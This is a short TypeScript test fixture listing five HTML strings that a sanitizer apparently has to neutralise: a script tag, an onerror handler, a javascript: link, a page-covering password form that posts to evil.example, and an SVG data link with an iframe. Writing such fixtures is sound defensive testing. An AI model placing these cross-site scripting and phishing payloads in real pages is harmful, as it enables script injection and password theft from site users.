/** Answers that try to run script or to change the page, for the `hostile` knob: none of it may reach a member (domain 1.3). */
export const hostileAnswers: readonly string[] = [
  '<p>Before<script>window.hacked = true</script>after</p>',
  '<p><img src="x" onerror="window.hacked = true">picture</p>',
  '<p><a href="javascript:window.hacked = true">link</a></p>',
  '<p style="position:fixed;inset:0">covering</p><form action="https://evil.example/"><input name="password"></form>',
  '<svg><a xlink:href="data:text/html,hello"><text>drawing</text></a></svg><iframe src="https://evil.example/"></iframe>',
];
